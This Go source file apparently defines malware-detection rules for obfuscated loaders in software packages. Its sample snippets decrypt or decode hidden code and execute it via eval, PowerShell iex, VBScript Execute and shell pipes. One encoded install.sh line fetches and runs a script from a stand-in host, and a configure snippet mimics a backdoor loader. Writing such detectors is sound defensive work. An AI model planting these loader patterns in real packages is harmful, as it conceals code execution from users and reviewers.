package rule

import b "taisei/detect/behaviour"

var (
	scrambled = []string{b.Base64, b.Hex, b.Reverse, b.Compress, b.Xor}
	hidden    = []string{b.Base64, b.Hex, b.Charcode, b.Reverse, b.Compress, b.Xor}
	early     = []string{b.Install, b.Build, b.Import, b.Load, b.Event, b.Command}
)

// loader: a hidden program is made readable and run.
func loader() []Rule {
	return []Rule{
		{
			ID: "decrypted_code", Severity: High,
			When:   []Condition{{Sources: []string{b.Blob}, Via: []string{b.Cipher}, Sinks: []string{b.Code, b.Process}}},
			Graver: []Condition{{With: []string{b.Environment, b.Host, b.Download}}, {Triggers: early}},
			Examples: []Example{
				Package("keyed by the environment", `"main":"i.js"`, map[string]string{
					"i.js":         "const c=require('crypto').createDecipher('aes256',process.env.npm_package_description);let s=c.update(require('./test/data')[0],'hex','utf8');s+=c.final('utf8');new module.constructor()._compile(s,'')",
					"test/data.js": "module.exports=['" + repeat("75d4c87f3f69e0fa292969072c49dff4f90f44c1385d8eb60dae4cc3a229e52cf61f78b0822353b4304e323ad563bc22", 4) + "']",
				}),
				Package("with its key beside it", `"main":"i.js"`, map[string]string{
					"i.js": "const c=require('crypto');const d=c.createDecipheriv('aes-256-cbc','k'.repeat(32),'v'.repeat(16));eval(d.update('" + repeat("9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08", 6) + "','hex','utf8')+d.final('utf8'))",
				}),
			},
			Neighbours: []Example{
				Package("decrypted and kept as data", `"main":"i.js"`, map[string]string{"i.js": "const c=require('crypto');exports.open=(k,iv,t)=>{const d=c.createDecipheriv('aes-256-cbc',k,iv);return JSON.parse(d.update(t,'hex','utf8')+d.final('utf8'))}"}),
				Package("a template compiled", `"main":"i.js"`, map[string]string{"i.js": "exports.compile=function(t){return new Function('o','return `'+t+'`')}"}),
			},
		},
		{
			ID: "keyed_code", Severity: Critical,
			When: []Condition{{Sources: []string{b.Environment, b.Host}, Via: []string{b.Cipher, b.Xor}, Sinks: []string{b.Code, b.Process}}},
			Examples: []Example{
				Package("a key from the environment", `"main":"i.js"`, map[string]string{"i.js": "const c=require('crypto').createDecipher('aes256',process.env.npm_package_description);const s=c.update(require('fs').readFileSync(__dirname+'/x.bin','utf8'),'hex','utf8')+c.final('utf8');require('vm').runInThisContext(s)", "x.bin": repeat("0a1b2c3d4e5f", 40)}),
				Package("a key from the host", `"main":"i.js"`, map[string]string{"i.js": "const os=require('os'),c=require('crypto');const d=c.createDecipheriv('aes-128-cbc',os.hostname(),'0'.repeat(16));eval(d.update('" + repeat("c0ffee00", 30) + "','hex','utf8'))"}),
			},
			Neighbours: []Example{
				Package("a key from the environment, for data", `"main":"i.js"`, map[string]string{"i.js": "const c=require('crypto').createDecipher('aes256',process.env.SECRET_KEY);exports.read=t=>c.update(t,'hex','utf8')+c.final('utf8')"}),
			},
		},
		{
			ID: "decoded_code", Severity: High,
			When: []Condition{
				{Sources: []string{b.Blob}, Via: scrambled, NotVia: []string{b.Cipher}, Sinks: []string{b.Code, b.Process}, NotScheme: []string{"name"}},
				{Triggers: early, Sources: []string{b.Blob}, Via: hidden, NotVia: []string{b.Cipher}, Sinks: []string{b.Code, b.Process}, NotScheme: []string{"name"}},
				{Triggers: []string{b.Call, b.Unreachable}, Sources: []string{b.Blob}, Via: hidden, NotVia: []string{b.Cipher}, Sinks: []string{b.Code}, Languages: []string{"javascript", "shell"}},
				{Triggers: early, Sources: []string{b.Blob}, Via: []string{b.Serialise}, Sinks: []string{b.Code}, Languages: []string{"python"}},
				{Triggers: early, Sources: []string{b.Blob}, Name: Within, Sinks: []string{b.Code}, Slots: []string{"code"}, Languages: []string{"python", "pyarmor"}},
				{Triggers: []string{b.Install, b.Build}, Sources: []string{b.Files}, Name: Nameless, Via: []string{b.Compress}, Sinks: []string{b.Code}},
			},
			Graver: []Condition{
				{Triggers: []string{b.Install}},
				{Triggers: []string{b.Import, b.Command}, Sinks: []string{b.Code}, Languages: []string{"python", "pyarmor"}},
				{Triggers: []string{b.Call}, Via: scrambled, Name: Within, Sinks: []string{b.Code, b.Process}, In: ".py"},
			},
			Examples: []Example{
				Package("base64", `"main":"i.js"`, map[string]string{"i.js": "eval(Buffer.from('Y29uc29sZS5sb2coJ2hlbGxvIGZyb20gYSBsYXllcicpOw==','base64').toString())"}),
				One("piped into a shell", "install.sh", "echo Y3VybCBodHRwczovL2MuZXhhbXBsZS94IHwgc2gK | base64 -d | bash\n"),
				Package("character codes", `"main":"i.js"`, map[string]string{"i.js": "var a=[99,111,110,115,111,108,101,46,108,111,103,40,49,41];new Function(String.fromCharCode.apply(null,a))()"}),
				One("found among the source's own files", "configure", "#!/bin/sh\nf=`grep -aErls '#{4}[[:alnum:]]{5}#{4}$' $srcdir/`\nsed 'r\n' $f | xz -dc 2>/dev/null | $SHELL\n"),
				One("by PowerShell, compressed", "i.ps1", "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('H4sIAAAAAAAA/yvPyMxJVShJLS5RSMssKi4BAGl6d5kQAAAA'));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()\n"),
				One("by PowerShell, number by number", "i.ps1", "((119^0),(104),(111),(97),(109),(105)|%{[char]($_ -bxor 0)}) -join ''|iex\n(78,96,65|%{[char]($_ -bxor 1)}) -join ''|iex\n"),
				One("by PowerShell, turned round", "i.ps1", "$r = 'ecivreS-teG'.ToCharArray(); [array]::Reverse($r); iex (-join $r)\n"),
				One("by a batch file", "i.bat", "@powershell -nop -w hidden -e VwByAGkAdABlAC0ASABvAHMAdAAgADEA\r\n"),
				One("by VBScript", "i.vbs", "s = \"\"\nFor Each c In Array(90,86,102,117,108,115,119,49,72,102,107,114,35,52)\n s = s & Chr(c - 3)\nNext\nExecute s\n"),
				One("by PHP", "i.php", "<?php eval(gzinflate(base64_decode('S03OyFdQL0stSsxTBwA=')));"),
				Gem("by Ruby", "eval(['7075747320276869272b27646427'].pack('H*'))\n"),
				Module("when called", "import base64\ndef go():\n    exec(base64.b64decode('cHJpbnQoJ2hlbGxvIGZyb20gYSBsYXllcicpCnByaW50KDEpCg=='))\n"),
				Module("through an alphabet of its own", "exec(''.join([y[0] for x in [c for c in 'jnqpsu!pt<!qsjou)2*jnqpsu!pt<!qsjou)2*jnqpsu!pt<!qsjou)2*'] for y in [[chr(n), chr(n+1)] for n in range(32, 126)] if x == y[1]]))\n"),
				One("reversed in a page", "lib.js", "eval(')1(trela'.split('').reverse().join('')+atob('O2FsZXJ0KDIp'))"),
			},
			Neighbours: []Example{
				Package("an image", `"main":"i.js"`, map[string]string{"i.js": "exports.logo=Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==','base64')"}),
				One("a text in base64, shown", "i.ps1", "Write-Host ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aGVsbG8gd29ybGQ=')))\n"),
				One("an icon in a page", "i.php", "<?php header('Content-Type: image/gif'); echo base64_decode('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7');"),
				One("quotes by their code", "i.vbs", "CreateObject(\"WScript.Shell\").Run \"notepad.exe \" & Chr(34) & \"C:\\a b.txt\" & Chr(34)\n"),
				Package("embedded WebAssembly", `"main":"i.js"`, map[string]string{"i.js": "const w=Buffer.from('AGFzbQEAAAABBgFgAX8BfwMCAQAHBwEDYWRkAAAKBgEEACAACw==','base64');exports.ready=WebAssembly.instantiate(w)"}),
				One("unpacked from a file with a name, not run", "configure", "#!/bin/sh\nxz -dc $srcdir/tests/files/good-1.xz > conftest.out\n"),
				One("a configuration", "install.sh", "echo 'a2V5PXZhbHVl' | base64 -d > /etc/app.conf\n"),
			},
		},
	}
}

func repeat(s string, n int) string {
	out := ""
	for range n {
		out += s
	}
	return out
}
